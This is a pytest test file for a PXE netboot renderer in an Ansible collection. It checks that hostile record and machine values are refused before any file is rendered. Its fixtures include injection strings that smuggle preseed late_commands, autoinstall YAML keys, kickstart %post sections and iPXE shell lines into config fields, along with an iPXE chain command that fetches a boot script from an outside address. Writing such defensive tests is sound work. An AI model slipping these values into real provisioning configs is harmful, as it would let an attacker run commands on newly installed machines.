# -*- coding: utf-8 -*-
"""The renderer's own guard (pxe/escape.py): hostile values given to the renderer directly, the loader
bypassed, are refused with the record and field named, before any file is rendered."""

import dataclasses

import pytest

from ansible_collections.netboot.fleet.plugins.module_utils.pxe import render as pxe


def replaced(fleet, kind, index, **changes):
    records = list(getattr(fleet, kind))
    records[index] = dataclasses.replace(records[index], **changes)
    return dataclasses.replace(fleet, **{kind: tuple(records)})


def files_of_every_machine(fleet, templates, http_url=None):
    renderer = pxe.Renderer(fleet, templates, http_url=http_url)
    return [renderer.machine_files(machine) for machine in fleet.machines]


# (record kind, field, hostile value, what it would do without the guard)
HOSTILE = [
    ("networks", "domain", "example.net\nd-i preseed/late_command string reboot", "a preseed line"),
    ("networks", "domain", 'example.net"\n  late-commands: [reboot]', "a key of the autoinstall YAML"),
    ("profiles", "cmdline", "quiet\nshell", "an iPXE shell line"),
    ("profiles", "cmdline", "quiet && chain http://198.51.100.66/x.ipxe", "an iPXE command after the kernel"),
    ("profiles", "cmdline", "quiet ${net0/mac}", "an iPXE settings expansion"),
    ("profiles", "cmdline", "quiet\u2028x", "a YAML line break"),
    ("profiles", "disk", "/dev/sda --all", "a kickstart option"),
    ("profiles", "packages", ("vim", "%post"), "a kickstart section"),
    ("profiles", "kernel", "debian12/linux initrd=evil", "a kernel argument"),
    ("profiles", "kernel", "debian12/${root-path}", "an iPXE settings expansion"),
]


@pytest.mark.parametrize("kind, field, value, effect", HOSTILE, ids=["%s.%s:%s" % (k, f, e) for k, f, _v, e in HOSTILE])
def test_hostile_record_values_are_refused(fleet, templates, kind, field, value, effect):
    hostile = replaced(fleet, kind, 0, **{field: value})
    with pytest.raises(pxe.PxeError) as raised:
        files_of_every_machine(hostile, templates)
    record = getattr(fleet, kind)[0].name
    assert ("%s.%s" % (record, field)) in str(raised.value) and effect


HOSTILE_MACHINE = [
    ("name", 'web1"\n  late-commands: [reboot]'),
    ("name", "web1 --nosuchoption"),
    ("mac", "52:54:00:12:00:03\nshell"),
    ("rack", "r1\nshell"),
    ("firmware", "bios\nshell"),
    ("labels", {"role": "web\nshell"}),
    ("labels", {"bad key": "x"}),
]


@pytest.mark.parametrize("field, value", HOSTILE_MACHINE, ids=[f for f, _v in HOSTILE_MACHINE])
def test_hostile_machine_values_are_refused(fleet, templates, field, value):
    hostile = replaced(fleet, "machines", 0, **{field: value})
    with pytest.raises(pxe.PxeError, match=r"machines .*\.%s" % field):
        files_of_every_machine(hostile, templates)


def test_a_hostile_http_url_setting_is_refused(fleet, templates):
    with pytest.raises(pxe.PxeError, match="http_url"):
        files_of_every_machine(fleet, templates, http_url="http://198.51.100.66/x\nshell")


def test_the_embedded_sot_passes_the_guard(fleet, templates):
    assert all(files_of_every_machine(fleet, templates))
